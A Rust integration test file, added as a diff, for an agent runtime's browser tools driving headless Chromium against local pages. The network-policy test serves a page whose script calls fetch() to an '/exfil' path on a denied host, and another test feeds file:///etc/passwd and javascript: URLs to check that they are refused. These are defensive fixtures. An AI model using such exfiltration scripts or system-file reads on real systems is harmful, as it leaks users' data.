@@ -1,0 +1,469 @@
+//! The browser tools driving a real headless Chromium against pages this test serves on
+//! 127.0.0.1: navigation, the outline with refs, real clicks and typing, PNG screenshots,
+//! typed refusals, the network policy applied to every request a page makes, and the
+//! browser's lifetime (one per workspace, gone with the runtime).
+//!
+//! Needs Chromium (`/usr/bin/chromium` or `KYRO_CHROMIUM`); `.ci/run` installs it and sets
+//! `KYRO_REQUIRE_BROWSER=1`, so CI fails rather than skips when it is missing.
+
+use std::collections::HashMap;
+use std::io::{BufRead, BufReader, Write};
+use std::net::TcpListener;
+use std::sync::{Arc, Mutex, MutexGuard};
+use std::time::{Duration, Instant};
+
+use kyro_core::policy::{ApprovalRule, ApprovalRules, NetworkPolicy};
+use kyro_core::receipt::ObservedEffect;
+use kyro_core::{Call, Execution, Outcome, Policy, Registry, Runtime, ToolError, Workspace};
+use serde_json::{Value, json};
+
+/// Browser tests run one at a time: each starts a Chromium, and the lifetime test counts them.
+static SERIAL: Mutex<()> = Mutex::new(());
+
+fn serial() -> Option<MutexGuard<'static, ()>> {
+    if let Some(reason) = kyro_tools::browser::unavailable() {
+        assert!(
+            std::env::var_os("KYRO_REQUIRE_BROWSER").is_none(),
+            "KYRO_REQUIRE_BROWSER is set but {reason}"
+        );
+        eprintln!("skipped: {reason}");
+        return None;
+    }
+    Some(SERIAL.lock().unwrap_or_else(|e| e.into_inner()))
+}
+
+const INDEX: &str = r#"<html><head><title>Kyro test</title></head><body>
+<h1>Hello</h1><p>Some <b>bold</b> text.</p>
+<a href="/next?from=link">Next page</a>
+<form action="/next"><label for="q">Query</label><input id="q" name="q" placeholder="search">
+<button type="submit">Go</button></form>
+<button id="counter" onclick="this.textContent = 'Clicked ' + (++window.clicks)">Count</button>
+<script>window.clicks = 0;</script>
+<div style="display:none"><button id="hidden">Hidden</button></div>
+<div style="position:relative"><button id="under">Under</button>
+<div id="cover" style="position:absolute;left:0;top:0;width:300px;height:60px;background:white"></div></div>
+<button disabled id="off">Off</button>
+<input id="ro" readonly value="fixed">
+</body></html>"#;
+
+/// A local site; records every request path it is asked for.
+struct Site {
+    base: String,
+    seen: Arc<Mutex<Vec<String>>>,
+}
+
+impl Site {
+    fn start(pages: HashMap<&'static str, (u16, Vec<(&'static str, String)>, String)>) -> Site {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let base = format!("http://{}", listener.local_addr().unwrap());
+        let seen = Arc::new(Mutex::new(Vec::new()));
+        let log = seen.clone();
+        let pages = Arc::new(pages);
+        std::thread::spawn(move || {
+            for stream in listener.incoming() {
+                let Ok(stream) = stream else { continue };
+                let (log, pages) = (log.clone(), pages.clone());
+                // One thread per connection: Chromium opens speculative connections that
+                // send nothing.
+                std::thread::spawn(move || {
+                    let mut reader = BufReader::new(stream.try_clone().unwrap());
+                    let mut line = String::new();
+                    if reader.read_line(&mut line).unwrap_or(0) == 0 {
+                        return;
+                    }
+                    let target = line.split_whitespace().nth(1).unwrap_or("").to_owned();
+                    loop {
+                        let mut h = String::new();
+                        if reader.read_line(&mut h).unwrap_or(0) == 0 || h.trim_end().is_empty() {
+                            break;
+                        }
+                    }
+                    log.lock().unwrap().push(target.clone());
+                    let path = target.split('?').next().unwrap_or("");
+                    let (status, headers, body) = pages.get(path).cloned().unwrap_or((404, vec![], "missing".into()));
+                    let mut response = format!(
+                        "HTTP/1.1 {status} X\r\nContent-Length: {}\r\nConnection: close\r\nContent-Type: text/html; charset=utf-8\r\n",
+                        body.len()
+                    );
+                    for (k, v) in headers {
+                        response.push_str(&format!("{k}: {v}\r\n"));
+                    }
+                    response.push_str("\r\n");
+                    response.push_str(&body);
+                    let mut stream = stream;
+                    let _ = stream.write_all(response.as_bytes());
+                });
+            }
+        });
+        Site { base, seen }
+    }
+
+    fn standard() -> Site {
+        let mut pages = HashMap::new();
+        pages.insert("/", (200, vec![], INDEX.to_owned()));
+        pages.insert(
+            "/next",
+            (200, vec![], "<html><head><title>Next</title></head><body><p>Arrived</p></body></html>".into()),
+        );
+        Site::start(pages)
+    }
+
+    fn url(&self, path: &str) -> String {
+        format!("{}{path}", self.base)
+    }
+
+    fn requested(&self, prefix: &str) -> bool {
+        self.seen.lock().unwrap().iter().any(|p| p.starts_with(prefix))
+    }
+}
+
+/// A runtime over a fresh workspace, kept across calls (the browser lives with it).
+struct Harness {
+    runtime: Runtime,
+    executor: tokio::runtime::Runtime,
+    _ws: tempfile::TempDir,
+}
+
+impl Harness {
+    fn new(network: NetworkPolicy) -> Harness {
+        let ws = tempfile::tempdir().unwrap();
+        let policy = Policy {
+            approvals: ApprovalRules::uniform(ApprovalRule::Auto),
+            network,
+            ..Policy::default()
+        };
+        let registry = Arc::new(Registry::with_catalog(kyro_tools::BUILTINS).unwrap());
+        let runtime = Runtime::new(registry, Workspace::new(ws.path()).unwrap(), &policy).unwrap();
+        let executor = tokio::runtime::Builder::new_current_thread()
+            .enable_all()
+            .build()
+            .unwrap();
+        Harness {
+            runtime,
+            executor,
+            _ws: ws,
+        }
+    }
+
+    /// Loopback allowed: the test site runs there.
+    fn local() -> Harness {
+        Harness::new(NetworkPolicy {
+            allow_hosts: vec!["127.0.0.1".into()],
+            ..NetworkPolicy::default()
+        })
+    }
+
+    fn execution(&self, tool: &str, args: Value) -> Execution {
+        self.executor.block_on(self.runtime.execute(Call::new(tool, args)))
+    }
+
+    fn call(&self, tool: &str, args: Value) -> Outcome {
+        self.execution(tool, args).outcome
+    }
+
+    fn ok(&self, tool: &str, args: Value) -> Value {
+        match self.call(tool, args.clone()) {
+            Outcome::Ok { result, .. } => result,
+            other => panic!("{tool} {args}: {other:?}"),
+        }
+    }
+
+    fn failed(&self, tool: &str, args: Value) -> ToolError {
+        match self.call(tool, args.clone()) {
+            Outcome::ExecutionFailed { error, .. } => error,
+            other => panic!("{tool} {args}: expected a failure, got {other:?}"),
+        }
+    }
+}
+
+/// The ref of the first outline line containing `needle`.
+fn ref_of(snapshot: &Value, needle: &str) -> String {
+    let text = snapshot["snapshot"].as_str().unwrap();
+    let line = text
+        .lines()
+        .find(|l| l.contains(needle))
+        .unwrap_or_else(|| panic!("no line with {needle:?} in\n{text}"));
+    let start = line.find("[ref=").unwrap_or_else(|| panic!("no ref on {line:?}")) + 5;
+    line[start..line[start..].find(']').unwrap() + start].to_owned()
+}
+
+#[test]
+fn navigate_and_snapshot_outline_the_page_with_refs() {
+    let Some(_serial) = serial() else { return };
+    let site = Site::standard();
+    let h = Harness::local();
+    let page = h.ok("browser_navigate", json!({ "url": site.url("/") }));
+    assert_eq!(page["title"], "Kyro test");
+    assert_eq!(page["status"], 200);
+    assert_eq!(page["url"], site.url("/"));
+
+    let snap = h.ok("browser_snapshot", json!({}));
+    let text = snap["snapshot"].as_str().unwrap();
+    assert!(text.contains("- heading \"Hello\" [level=1]"), "{text}");
+    assert!(text.contains("- text: \"bold\""), "{text}");
+    assert!(text.contains("- link \"Next page\" [ref="), "{text}");
+    assert!(text.contains("[url=/next?from=link]"), "{text}");
+    assert!(text.contains("- textbox \"Query\" [ref="), "{text}");
+    assert!(text.contains("- button \"Go\" [ref="), "{text}");
+    assert!(text.contains("- button \"Off\" [disabled] [ref="), "{text}");
+    assert!(!text.contains("Hidden"), "hidden elements are left out: {text}");
+    assert!(snap["refs"].as_u64().unwrap() >= 6);
+    assert_eq!(snap["truncated"], false);
+
+    let short = h.ok("browser_snapshot", json!({ "max_chars": 100 }));
+    assert_eq!(short["truncated"], true);
+    assert!(short["snapshot"].as_str().unwrap().len() <= 100);
+}
+
+#[test]
+fn click_by_ref_and_selector_use_real_clicks() {
+    let Some(_serial) = serial() else { return };
+    let site = Site::standard();
+    let h = Harness::local();
+    h.ok("browser_navigate", json!({ "url": site.url("/") }));
+    let snap = h.ok("browser_snapshot", json!({}));
+    let counter = ref_of(&snap, "button \"Count\"");
+    h.ok("browser_click", json!({ "ref": counter }));
+    h.ok("browser_click", json!({ "selector": "#counter" }));
+    let after = h.ok("browser_snapshot", json!({}));
+    assert!(after["snapshot"].as_str().unwrap().contains("button \"Clicked 2\""), "{after}");
+
+    // A link click navigates, and the call waits for it.
+    let link = ref_of(&after, "link \"Next page\"");
+    let clicked = h.ok("browser_click", json!({ "ref": link }));
+    assert_eq!(clicked["url"], site.url("/next?from=link"));
+    assert_eq!(clicked["title"], "Next");
+    assert!(site.requested("/next?from=link"));
+}
+
+#[test]
+fn type_replaces_appends_and_submits() {
+    let Some(_serial) = serial() else { return };
+    let site = Site::standard();
+    let h = Harness::local();
+    h.ok("browser_navigate", json!({ "url": site.url("/") }));
+    let snap = h.ok("browser_snapshot", json!({}));
+    let query = ref_of(&snap, "textbox \"Query\"");
+    let typed = h.ok("browser_type", json!({ "ref": query, "text": "héllo wörld" }));
+    assert_eq!(typed["value"], "héllo wörld");
+    let typed = h.ok("browser_type", json!({ "ref": query, "text": "!", "append": true }));
+    assert_eq!(typed["value"], "héllo wörld!");
+    let typed = h.ok("browser_type", json!({ "selector": "#q", "text": "kyro", "submit": true }));
+    assert_eq!(typed["value"], "kyro");
+    assert_eq!(typed["title"], "Next");
+    assert!(site.requested("/next?q=kyro"), "{:?}", site.seen.lock().unwrap());
+}
+
+#[test]
+fn actions_on_missing_or_unusable_elements_are_typed_refusals() {
+    let Some(_serial) = serial() else { return };
+    let site = Site::standard();
+    let h = Harness::local();
+    h.ok("browser_navigate", json!({ "url": site.url("/") }));
+    h.ok("browser_snapshot", json!({}));
+
+    let stale = h.failed("browser_click", json!({ "ref": "e999" }));
+    assert!(matches!(&stale, ToolError::NoSuchElement { element } if element == "e999"), "{stale:?}");
+    let missing = h.failed("browser_click", json!({ "selector": "#nope" }));
+    assert!(matches!(missing, ToolError::NoSuchElement { .. }), "{missing:?}");
+    let bad = h.failed("browser_click", json!({ "selector": "button[" }));
+    assert!(matches!(bad, ToolError::InvalidPattern { .. }), "{bad:?}");
+    for (selector, why) in [
+        ("#hidden", "hidden"),
+        ("#off", "disabled"),
+        ("#under", "covered by <div#cover>"),
+    ] {
+        let refused = h.failed("browser_click", json!({ "selector": selector }));
+        assert!(
+            matches!(&refused, ToolError::NotActionable { reason, .. } if reason.contains(why)),
+            "{selector}: {refused:?}"
+        );
+    }
+    for (selector, why) in [("#counter", "does not take text"), ("#ro", "not editable")] {
+        let refused = h.failed("browser_type", json!({ "selector": selector, "text": "x" }));
+        assert!(
+            matches!(&refused, ToolError::NotActionable { reason, .. } if reason.contains(why)),
+            "{selector}: {refused:?}"
+        );
+    }
+    let neither = h.failed("browser_click", json!({}));
+    assert!(matches!(neither, ToolError::NotActionable { .. }), "{neither:?}");
+    let both = h.failed("browser_click", json!({ "ref": "e1", "selector": "#q" }));
+    assert!(matches!(both, ToolError::NotActionable { .. }), "{both:?}");
+    // Refs are checked by the schema before the page is touched.
+    assert!(matches!(
+        h.call("browser_click", json!({ "ref": "#counter" })),
+        Outcome::InvalidArguments { .. }
+    ));
+    // After a navigation, old refs are gone.
+    let snap = h.ok("browser_snapshot", json!({}));
+    let go = ref_of(&snap, "button \"Go\"");
+    h.ok("browser_navigate", json!({ "url": site.url("/next") }));
+    assert!(matches!(
+        h.failed("browser_click", json!({ "ref": go })),
+        ToolError::NoSuchElement { .. }
+    ));
+}
+
+#[test]
+fn screenshots_are_png_of_the_viewport_or_the_whole_page() {
+    let Some(_serial) = serial() else { return };
+    let mut pages = HashMap::new();
+    pages.insert(
+        "/tall",
+        (
+            200,
+            vec![],
+            "<html><body style='margin:0'><div style='height:3000px;background:linear-gradient(red,blue)'>tall</div></body></html>".into(),
+        ),
+    );
+    let site = Site::start(pages);
+    let h = Harness::local();
+    h.ok("browser_navigate", json!({ "url": site.url("/tall") }));
+    let shot = h.ok("browser_screenshot", json!({}));
+    assert_eq!(shot["mime_type"], "image/png");
+    assert_eq!((shot["width"].as_u64(), shot["height"].as_u64()), (Some(1280), Some(800)));
+    let png = base64_decode(shot["data"].as_str().unwrap());
+    assert_eq!(&png[..8], b"\x89PNG\r\n\x1a\n");
+    assert_eq!(png.len() as u64, shot["bytes"].as_u64().unwrap());
+    let full = h.ok("browser_screenshot", json!({ "full_page": true }));
+    assert_eq!(full["height"].as_u64(), Some(3000), "{}", full["height"]);
+}
+
+fn base64_decode(text: &str) -> Vec<u8> {
+    use base64::Engine;
+    base64::prelude::BASE64_STANDARD.decode(text).unwrap()
+}
+
+#[test]
+fn the_default_policy_refuses_loopback_before_the_browser_starts() {
+    let Some(_serial) = serial() else { return };
+    let site = Site::standard();
+    let h = Harness::new(NetworkPolicy::default());
+    let refused = h.failed("browser_navigate", json!({ "url": site.url("/") }));
+    assert!(matches!(refused, ToolError::UrlRefused { .. }), "{refused:?}");
+    assert!(site.seen.lock().unwrap().is_empty());
+    for url in ["file:///etc/passwd", "chrome://settings", "javascript:alert(1)"] {
+        assert!(
+            matches!(
+                h.call("browser_navigate", json!({ "url": url })),
+                Outcome::InvalidArguments { .. }
+            ),
+            "{url}"
+        );
+    }
+}
+
+#[test]
+fn requests_a_page_makes_are_checked_against_the_policy() {
+    let Some(_serial) = serial() else { return };
+    // The page is on 127.0.0.1 (allowed); a second server, reached as `localhost`, is
+    // denied by name and logs anything that gets through.
+    let listener_site = Site::start(HashMap::new());
+    let port = listener_site.base.rsplit(':').next().unwrap().to_owned();
+    let denied = format!("http://localhost:{port}");
+    let mut pages = HashMap::new();
+    pages.insert(
+        "/leaky",
+        (
+            200,
+            vec![],
+            format!(
+                "<html><head><title>Leaky</title></head><body><img src='{denied}/img.png'>\
+                 <script>fetch('{denied}/exfil?x=1').catch(() => {{}});</script></body></html>"
+            ),
+        ),
+    );
+    pages.insert("/redirect", (302, vec![("Location", format!("{denied}/landing"))], String::new()));
+    pages.insert("/hop", (302, vec![("Location", "/fine".into())], String::new()));
+    pages.insert("/fine", (200, vec![], "<title>Fine</title>".into()));
+    let site = Site::start(pages);
+    let h = Harness::new(NetworkPolicy {
+        allow_private: true,
+        deny_hosts: vec!["localhost".into()],
+        ..NetworkPolicy::default()
+    });
+    let leaky = site.url("/leaky");
+    let execution = h.execution("browser_navigate", json!({ "url": leaky }));
+    assert!(matches!(execution.outcome, Outcome::Ok { .. }), "{:?}", execution.outcome);
+    // Give the page's script time to try.
+    let deadline = Instant::now() + Duration::from_secs(2);
+    while Instant::now() < deadline {
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    assert!(!listener_site.requested("/img.png"), "the denied image was fetched");
+    assert!(!listener_site.requested("/exfil"), "the page's fetch() reached a denied host");
+    let refused: Vec<String> = execution
+        .receipt
+        .effects
+        .iter()
+        .filter_map(|e| match e {
+            ObservedEffect::RefusedRequest { url } => Some(url.clone()),
+            _ => None,
+        })
+        .collect();
+    assert!(refused.iter().any(|u| u.ends_with("/img.png")), "{refused:?}");
+
+    // A redirect to a denied host is refused like a direct request, and never reaches it.
+    let redirect = h.failed("browser_navigate", json!({ "url": site.url("/redirect") }));
+    assert!(matches!(&redirect, ToolError::UrlRefused { url, .. } if url.ends_with("/landing")), "{redirect:?}");
+    assert!(!listener_site.requested("/landing"));
+    // A redirect within allowed hosts is followed.
+    let hop = h.ok("browser_navigate", json!({ "url": site.url("/hop") }));
+    assert_eq!(hop["title"], "Fine");
+}
+
+#[test]
+fn one_browser_per_workspace_gone_with_the_runtime() {
+    let Some(_serial) = serial() else { return };
+    let site = Site::standard();
+    let h = Harness::local();
+    h.ok("browser_navigate", json!({ "url": site.url("/") }));
+    // A later call sees the page an earlier call opened.
+    let snap = h.ok("browser_snapshot", json!({}));
+    assert_eq!(snap["title"], "Kyro test");
+    let ours = chromium_children();
+    assert!(!ours.is_empty(), "no Chromium is running for this runtime");
+
+    // A second workspace gets its own browser on its own page.
+    let other = Harness::local();
+    other.ok("browser_navigate", json!({ "url": site.url("/next") }));
+    assert_eq!(h.ok("browser_snapshot", json!({}))["title"], "Kyro test");
+    assert_eq!(other.ok("browser_snapshot", json!({}))["title"], "Next");
+    assert_eq!(chromium_children().len(), 2 * ours.len());
+
+    drop(h);
+    drop(other);
+    let deadline = Instant::now() + Duration::from_secs(10);
+    while !chromium_children().is_empty() && Instant::now() < deadline {
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    assert!(chromium_children().is_empty(), "Chromium outlived its runtime");
+    for pid in ours {
+        assert!(
+            !std::path::Path::new(&format!("/proc/{pid}")).exists(),
+            "process {pid} is left (a zombie?)"
+        );
+    }
+}
+
+/// Chromium processes this test process started (their parent is us).
+fn chromium_children() -> Vec<u32> {
+    let me = std::process::id().to_string();
+    let mut found = Vec::new();
+    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
+        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else { continue };
+        let Ok(stat) = std::fs::read_to_string(entry.path().join("stat")) else { continue };
+        // pid (comm) state ppid ...
+        let Some(after) = stat.rsplit_once(')').map(|(_, rest)| rest) else { continue };
+        let fields: Vec<&str> = after.split_whitespace().collect();
+        if fields.get(1) != Some(&me.as_str()) {
+            continue;
+        }
+        let cmdline = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
+        if String::from_utf8_lossy(&cmdline).contains("kyro-chromium-") {
+            found.push(pid);
+        }
+    }
+    found
+}
